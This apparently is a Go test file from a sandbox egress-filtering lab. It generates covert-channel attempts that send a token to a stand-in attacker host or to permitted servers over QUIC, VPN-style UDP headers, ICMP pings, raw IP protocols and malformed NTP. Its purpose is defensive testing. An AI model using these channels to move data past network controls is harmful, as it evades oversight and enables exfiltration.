//go:build linux

package lab

import (
	"context"
	"encoding/binary"
	"fmt"
	"net/netip"
	"strings"
)

// datagramTactics: whatever is not TCP. QUIC hides the name; the others are tunnels, or can be made into one.
func datagramTactics() []tactic {
	var all []tactic
	add := func(name, source string, evil play) {
		all = append(all, tactic{name: name, source: source, axes: byFamily, evil: evil, twin: handshakes(nil)})
	}
	for _, port := range []uint16{443, 80} {
		add(fmt.Sprintf("speaks QUIC to a permitted name on port %d", port), "RFC 9000; RFC 9114", func(ctx context.Context, t *Try, s shape) error {
			return t.throw(ctx, t.target(ctx, frontDoors[0], s.v6, port), quicInitial(t.Token))
		})
	}
	for _, p := range []struct {
		port         uint16
		name, source string
		head         string
	}{
		{500, "IKE", "RFC 7296", strings.Repeat("\x00", 16) + "\x21\x20\x22\x08"},
		{4500, "ESP in UDP", "RFC 3948", "\x00\x00\x00\x01\x00\x00\x00\x01"},
		{1194, "OpenVPN", "OpenVPN protocol", "\x38\x01\x02\x03\x04\x05\x06\x07\x08\x00\x00\x00\x00\x00"},
		{51820, "WireGuard", "WireGuard whitepaper", "\x01\x00\x00\x00" + strings.Repeat("\x07", 144)},
		{3544, "Teredo", "RFC 4380", "\x60\x00\x00\x00\x00\x08\x3b\x40"},
		{3478, "STUN", "RFC 8489", "\x00\x01\x00\x00\x21\x12\xa4\x42"},
		{33434, "traceroute", "traceroute(8)", ""},
		{5353, "multicast DNS", "RFC 6762", "\x00\x00\x01\x00"},
	} {
		add(fmt.Sprintf("sends %s to the attacker", p.name), p.source, func(ctx context.Context, t *Try, s shape) error {
			return t.throw(ctx, netip.AddrPortFrom(t.Lab.Zone.addr("vm."+evilSuffix, s.v6), p.port), []byte(p.head+t.Token))
		})
	}
	for _, p := range rawProtocols {
		add("sends "+p.name+" packets", fmt.Sprintf("IP protocol %d", p.number), func(_ context.Context, t *Try, s shape) error {
			return t.packetAnywhere(p.number, s.v6, rawPayload(p.number, t.Token))
		})
	}
	for _, size := range []int{32, 56, 200, 1000, 1400} {
		add(fmt.Sprintf("pings with %d bytes", size), "ptunnel; RFC 792", func(_ context.Context, t *Try, s shape) error {
			return t.packetAnywhere([]int{icmp, icmp6}[bit(s.v6)], s.v6, ping([]byte{8, 128}[bit(s.v6)], size, t.Token))
		})
	}
	for _, p := range []struct {
		name   string
		v4, v6 byte
	}{{"an echo reply that nobody asked for", 0, 129}, {"a timestamp or a private message", 13, 200}, {"an address mask or another private message", 17, 201}} {
		add("sends "+p.name, "RFC 792; RFC 4443", func(_ context.Context, t *Try, s shape) error {
			return t.packetAnywhere([]int{icmp, icmp6}[bit(s.v6)], s.v6, ping([]byte{p.v4, p.v6}[bit(s.v6)], 64, t.Token))
		})
	}
	return append(all, timeTactics()...)
}

// packetAnywhere sends one packet without ports to an address that is only this try's, for nothing else tells such
// packets apart.
func (t *Try) packetAnywhere(protocol int, v6 bool, b []byte) error {
	t.prove([]byte(t.Token))
	return t.packet(protocol, hashAddr([]netip.Prefix{publicV4, publicV6}[bit(v6)], t.Token, 0), b)
}

// throw sends a datagram and wants it, or anything, back.
func (t *Try) throw(ctx context.Context, to netip.AddrPort, b []byte) error {
	t.prove(b)
	_, err := t.Exchange(ctx, "udp", to, b)
	return err
}

// quicInitial has the form of a client's first packet (RFC 9000 section 17.2.2).
func quicInitial(token string) []byte {
	const size = 1200
	b := []byte{0xc3, 0, 0, 0, 1, 8, 1, 2, 3, 4, 5, 6, 7, 8, 0, 0}
	b = binary.BigEndian.AppendUint16(b, 0x4000|(size-18))
	b = append(b, make([]byte, size-len(b)-len(token))...)
	return append(b, token...)
}

// timeTactics: asking a permitted server for the time is legal; everything else that fits into a datagram to it is not.
func timeTactics() []tactic {
	at := func(ctx context.Context, t *Try, s shape) netip.AddrPort { return t.target(ctx, timeDoor, s.v6, 123) }
	asks := func(ctx context.Context, t *Try, s shape) error {
		return t.throw(ctx, at(ctx, t, s), ntpRequest(t.Token))
	}
	all := []tactic{{name: "asks a permitted server for the time", source: "RFC 5905", axes: byFamily, twin: asks}}
	for _, p := range []struct {
		name  string
		bytes func(t *Try) []byte
	}{
		{"500 bytes", func(t *Try) []byte { return append(ntpRequest(t.Token), strings.Repeat("x", 452)...) }},
		{"a request with an extension", func(t *Try) []byte { return append(ntpRequest(t.Token), "\x01\x04\x00\x10data for me!"...) }},
		{"a request with a key", func(t *Try) []byte { return append(ntpRequest(t.Token), strings.Repeat("k", 20)...) }},
		{"12 bytes", func(t *Try) []byte { return []byte(t.Token[:12]) }},
		{"a server's answer", func(t *Try) []byte { b := ntpRequest(t.Token); b[0] = 4<<3 | 4; return b }},
		{"a symmetric message", func(t *Try) []byte { b := ntpRequest(t.Token); b[0] = 4<<3 | 1; return b }},
		{"a broadcast", func(t *Try) []byte { b := ntpRequest(t.Token); b[0] = 4<<3 | 5; return b }},
		{"a control message", func(t *Try) []byte { b := ntpRequest(t.Token); b[0] = 2<<3 | 6; return b }},
		{"a private-mode message", func(t *Try) []byte { b := ntpRequest(t.Token); b[0] = 2<<3 | 7; return b }},
	} {
		all = append(all, tactic{name: "sends a permitted time server " + p.name, source: "RFC 5905 section 7.3; covert NTP", axes: byFamily, twin: asks,
			evil: func(ctx context.Context, t *Try, s shape) error { return t.throw(ctx, at(ctx, t, s), p.bytes(t)) }})
	}
	all = append(all, tactic{name: "asks anybody else for the time", source: "RFC 5905", axes: byFamily, twin: asks,
		evil: func(ctx context.Context, t *Try, s shape) error {
			return t.throw(ctx, netip.AddrPortFrom(t.Lab.Zone.addr("vm."+evilSuffix, s.v6), 123), ntpRequest(t.Token))
		}})
	return all
}
